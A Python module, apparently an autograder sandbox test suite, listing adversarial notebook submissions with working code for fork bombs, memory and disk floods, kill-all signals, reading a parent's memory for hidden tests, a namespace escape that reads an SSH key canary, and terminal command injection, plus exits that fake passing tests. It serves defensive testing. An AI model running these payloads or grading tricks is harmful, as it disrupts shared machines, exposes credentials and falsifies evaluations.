"""The machine: time, memory, processes, disk, output; and processes that attack others or stay behind.

Each takes a bounded amount, so that the machine that proves the attack survives it.
"""

from __future__ import annotations

import nbformat
from nbformat import NotebookNode

from ..submission import Gain, Submission


def slow(notebook: NotebookNode) -> None:
    """Add slow cells, and one that tells whether all of them ran to their end."""
    wait = "import time\n\ntime.sleep(4)\nslept = globals().get('slept', 0) + 1"
    cells = [nbformat.v4.new_code_cell(wait, id=f"slow-{place}") for place in range(15)]
    tell = 'if slept == 15:\n    print("TOOK", "slow-cells")'
    notebook.cells[3:3] = [*cells, nbformat.v4.new_code_cell(tell, id="slow-all")]


ATTACKS = [
    Submission(
        "endless-loop",
        "An answer never ends.",
        Gain.STOPPED,
        answers={"mean": "while True:\n    pass"},
    ),
    Submission(
        "endless-loop-ignoring-signals",
        "An answer never ends, and takes no notice of interruptions, of exceptions and of signals.",
        Gain.STOPPED,
        """
import signal
import time

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        while True:
            time.sleep(0.1)
    except BaseException:
        pass
""",
    ),
    Submission(
        "endless-test",
        "The function never comes back to the test that calls it.",
        Gain.STOPPED,
        answers={"mean": "import time\n\ndef mean(values):\n    while True:\n        time.sleep(1)"},
    ),
    Submission(
        "endless-iterator",
        "The functions return things without an end: a counter, a huge range, a generator.",
        Gain.STOPPED,
        answers={
            "mean": "import itertools\n\ndef mean(values):\n    return itertools.count()",
            "scores": "scores = (number for number in itertools.count())",
            "words": "def words(text):\n    return range(10**15)",
        },
    ),
    Submission(
        "endless-native-loop",
        "An endless computation in native code holds the interpreter's lock and hears no interruption.",
        Gain.STOPPED,
        answers={"mean": "import re\n\nre.match(r'(a|aa)+$', 'a' * 100 + 'b')"},
    ),
    Submission(
        "slow-cells",
        "Fifteen cells each take four seconds: none too long, all of them a minute.",
        Gain.TOOK,
        edit=slow,
    ),
    Submission(
        "stops-itself",
        "The process stops itself by a signal and waits to be continued.",
        Gain.STOPPED,
        "import os\nimport signal\n\nos.kill(os.getpid(), signal.SIGSTOP)",
    ),
    Submission(
        "leaves-at-once",
        "The process ends in the middle of an answer.",
        Gain.STOPPED,
        answers={"mean": "import os\n\nos._exit(0)"},
    ),
    Submission(
        "leaves-during-test",
        "The process ends while a test calls the function, as if all had gone well.",
        Gain.MARKS,
        answers={"mean": "import os\n\ndef mean(values):\n    os._exit(0)"},
    ),
    Submission(
        "crashes",
        "The process crashes in native code.",
        Gain.STOPPED,
        "import ctypes\n\nctypes.string_at(0)",
    ),
    Submission(
        "exhausts-stack",
        "Recursion without a limit overflows the stack.",
        Gain.STOPPED,
        """
import sys

sys.setrecursionlimit(10**9)

def again(depth):
    return again(depth + 1)

again(0)
""",
    ),
    Submission(
        "deep-source",
        "The text of a cell is nested so deeply that the parser overflows.",
        Gain.STOPPED,
        "(" * 5000 + ")" * 5000 + "\n" + "-" * 200_000 + "1",
    ),
    Submission(
        "deep-values",
        "The answers are nested without an end, contain themselves, or are numbers of a million digits.",
        Gain.STOPPED,
        answers={
            "largest": "largest = []\nfor _ in range(200_000):\n    largest = [largest]",
            "mean": "loop = []\nloop.append(loop)\n\ndef mean(values):\n    return loop",
            "words": "def words(text):\n    return 10 ** (2 * 10**6)",
            "scores": "scores = {'a' * 10**6: dict.fromkeys(range(10**5))}",
        },
    ),
    Submission(
        "fork-bomb",
        "Three hundred processes are started and stay.",
        Gain.TOOK,
        """
import os
import time

started = 0
try:
    for _ in range(300):
        child = os.fork()
        if child == 0:
            time.sleep(20)
            os._exit(0)
        started += 1
except OSError as error:
    print(error)
if started == 300:
    print("TOOK", "@NAME@")
""",
    ),
    Submission(
        "thread-bomb",
        "A thousand threads are started.",
        Gain.TOOK,
        """
import threading
import time

started = 0
try:
    for _ in range(1000):
        threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
        started += 1
except RuntimeError as error:
    print(error)
if started == 1000:
    print("TOOK", "@NAME@")
""",
    ),
    Submission(
        "processors-flood",
        "A hundred processes compute without a pause, on every processor there is.",
        Gain.TOOK,
        """
import os
import signal
import time

try:
    os.sched_setaffinity(0, range(os.cpu_count()))
except OSError as error:
    print(error)
children = []
wait, start = os.pipe()
try:
    for _ in range(100):
        child = os.fork()
        if child == 0:
            os.close(start)
            os.read(wait, 1)
            end = time.monotonic() + 30
            while time.monotonic() < end:
                pass
            os._exit(0)
        children.append(child)
except OSError as error:
    print(error)
os.close(start)
time.sleep(2)
used = {open(f"/proc/{child}/stat").read().rpartition(")")[2].split()[36] for child in children}
for child in children:
    os.kill(child, signal.SIGKILL)
for child in children:
    os.waitpid(child, 0)
print(len(children), "processes on processors", *sorted(used))
if len(children) == 100 and len(used) > 1:
    print("TOOK", "@NAME@")
""",
    ),
    Submission(
        "memory-flood",
        "Four gigabytes of memory are taken.",
        Gain.TOOK,
        """
blocks = []
for _ in range(16):
    blocks.append(bytearray(b"x") * 2**28)
print("TOOK", "@NAME@")
del blocks
""",
    ),
    Submission(
        "memory-flood-of-children",
        "Eight child processes each take half a gigabyte, so that no single one takes much.",
        Gain.TOOK,
        """
import os
import time

children = []
for _ in range(8):
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            block = bytearray(b"x") * 2**29
            os.write(write, b"y")
            time.sleep(4)
        finally:
            os._exit(0)
    os.close(write)
    children.append((child, read))
took = sum(len(os.read(read, 1)) for _, read in children)
print(took, "half gigabytes")
if took == 8:
    print("TOOK", "@NAME@")
""",
    ),
    Submission(
        "memory-in-sockets",
        "Half a gigabyte is left waiting in 110 pairs of sockets, where it is memory of no process.",
        Gain.TOOK,
        """
import socket

pairs = [socket.socketpair() for _ in range(110)]
waiting = 0
for one in [one for pair in pairs for one in pair]:
    one.setblocking(False)
    try:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
    except OSError as error:
        print(error)
    try:
        while waiting < 1.2e9:
            waiting += one.send(bytes(2**16))
    except OSError:
        pass
print(waiting)
if waiting > 5e8:
    print("TOOK", "@NAME@")
del pairs, one
""",
    ),
    Submission(
        "disk-flood",
        "Two and a half gigabytes are written into files, in the folder, in /tmp and in shared memory.",
        Gain.TOOK,
        """
import os

took = 0
for folder in (".", "/tmp", "/dev/shm"):
    try:
        with open(os.path.join(folder, "left-by-@NAME@"), "wb") as flood:
            for _ in range(13):
                flood.write(b"x" * 2**26)
                took += 1
    except OSError as error:
        print(folder, error)
    finally:
        try:
            os.unlink(os.path.join(folder, "left-by-@NAME@"))
        except OSError:
            pass
print(took)
if took == 39:
    print("TOOK", "@NAME@")
""",
    ),
    Submission(
        "small-files-flood",
        "A hundred thousand files are made.",
        Gain.TOOK,
        """
import os

made = 0
try:
    os.mkdir("many")
    for number in range(100_000):
        os.close(os.open(f"many/{number}", os.O_CREAT))
        made += 1
except OSError as error:
    print(error)
if made == 100_000:
    print("TOOK", "@NAME@")
import shutil
shutil.rmtree("many", ignore_errors=True)
""",
    ),
    Submission(
        "output-flood",
        "Ninety megabytes are printed.",
        Gain.TOOK,
        """
for _ in range(90):
    print("x" * 10**6)
""",
    ),
    Submission(
        "output-flood-in-pieces",
        "Twenty thousand pictures and results are shown, each a message of its own.",
        Gain.TOOK,
        """
for number in range(20_000):
    display({"text/plain": str(number) + "x" * 1000}, raw=True)
""",
    ),
    Submission(
        "output-flood-during-test",
        "The function prints without end while a test calls it.",
        Gain.TOOK,
        answers={
            "mean": "def mean(values):\n    for _ in range(90):\n        print('x' * 10**6)\n    return 3"
        },
    ),
    Submission(
        "child-outlives",
        "A child process in a session of its own outlives the kernel.",
        Gain.LEFT,
        """
import subprocess
import sys

subprocess.Popen(
    [sys.executable, "-c", "import time; time.sleep(40)  # left-by-@NAME@"], start_new_session=True
)
""",
    ),
    Submission(
        "grandchild-outlives",
        "A process forks twice, leaves its group, ignores signals and waits for the class to be graded.",
        Gain.LEFT,
        """
import os
import signal
import sys

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        os.closerange(0, 200)
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(40)  # left-by-@NAME@"])
    os._exit(0)
""",
    ),
    Submission(
        "shell-in-background",
        "A command of the shell is sent to the background.",
        Gain.LEFT,
        """
import os

os.system("nohup sh -c 'sleep 40; : left-by-@NAME@' >/dev/null 2>&1 &")
""",
    ),
    Submission(
        "blocking-thread",
        "A thread that is no daemon keeps the process from ending.",
        Gain.STOPPED,
        """
import threading
import time

threading.Thread(target=lambda: [time.sleep(1) for _ in range(60)]).start()
""",
    ),
    Submission(
        "asks-for-input",
        "Answers ask for input and wait.",
        Gain.STOPPED,
        answers={
            "mean": "name = input('Name?')",
            "largest": "import sys\n\nlargest = int(sys.stdin.readline())",
        },
    ),
    Submission(
        "debugger",
        "Debuggers are started, at once and when a test calls the function.",
        Gain.HIDDEN,
        answers={
            "largest": "breakpoint()",
            "mean": "def mean(values):\n    import pdb\n    pdb.set_trace()\n    return 3",
            "words": "%pdb on\n1 / 0",
        },
    ),
    Submission(
        "kills-parent",
        "The process that started the kernel is killed.",
        Gain.STOPPED,
        """
import os
import signal

for _ in range(3):
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except (OSError, ProcessLookupError) as error:
        print(error)
""",
    ),
    Submission(
        "kills-everything",
        "Every process of the account is killed.",
        Gain.STOPPED,
        """
import os
import signal

os.kill(-1, signal.SIGKILL)
""",
    ),
    Submission(
        "writes-into-parent",
        "The memory of the process that started the kernel is read and searched for the tests.",
        Gain.HIDDEN,
        """
import os
import re

for process in {os.getppid(), 1, 2, 3, 4, 5}:
    try:
        maps = open(f"/proc/{process}/maps").read().splitlines()
        memory = open(f"/proc/{process}/mem", "r+b", 0)
    except OSError as error:
        print(error)
        continue
    for line in maps:
        low, high, rights = re.match(r"(\\w+)-(\\w+) (\\S+)", line).groups()
        low, high = int(low, 16), int(high, 16)
        if rights.startswith("rw") and high - low < 2**27:
            try:
                memory.seek(low)
                block = memory.read(high - low)
            except (OSError, ValueError, OverflowError):
                continue
            place = block.find(b"c0" + b"ffee")
            if place >= 0:
                print(block[place - 20 : place + 200].decode("utf-8", "replace"))
""",
    ),
    Submission(
        "other-namespaces",
        "New namespaces are made, and other file systems mounted in them, to come out on the other side.",
        Gain.SEEN,
        """
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
user, mount = os.getuid(), 0
print(libc.unshare(0x10000000 | 0x00020000), os.strerror(ctypes.get_errno()))
for path, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {os.getgid()} 1")):
    try:
        open(f"/proc/self/{path}", "w").write(text)
    except OSError as error:
        print(error)
print(libc.mount(b"proc", b"/proc", b"proc", 0, None), os.strerror(ctypes.get_errno()))
print(libc.umount2(b"/root", 2), libc.umount2(b"/home", 2), libc.umount2(b"/tmp", 2))
for path in ("@HOME@/.ssh/id_canary", "/proc/1/root@HOME@/.ssh/id_canary", "/oldroot@HOME@/.ssh/id_canary"):
    try:
        print(open(path).read())
    except OSError as error:
        print(error)
for number in range(3, 64):
    try:
        os.fchdir(number)
        print(os.listdir("."), open("." * 2 + "/.." * 20 + "@HOME@/.ssh/id_canary").read())
    except OSError:
        pass
""",
    ),
    Submission(
        "types-into-terminal",
        "Letters are pushed into the terminal of the lecturer, as if typed there.",
        Gain.LEFT,
        """
import fcntl
import os

for device in ("/dev/tty", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2"):
    try:
        terminal = os.open(device, os.O_RDWR | os.O_NOCTTY)
        for letter in b"touch @HOME@/left-by-@NAME@\\n":
            fcntl.ioctl(terminal, 0x5412, bytes([letter]))
        print("TOOK", "@NAME@")
    except OSError as error:
        print(device, error)
""",
    ),
]
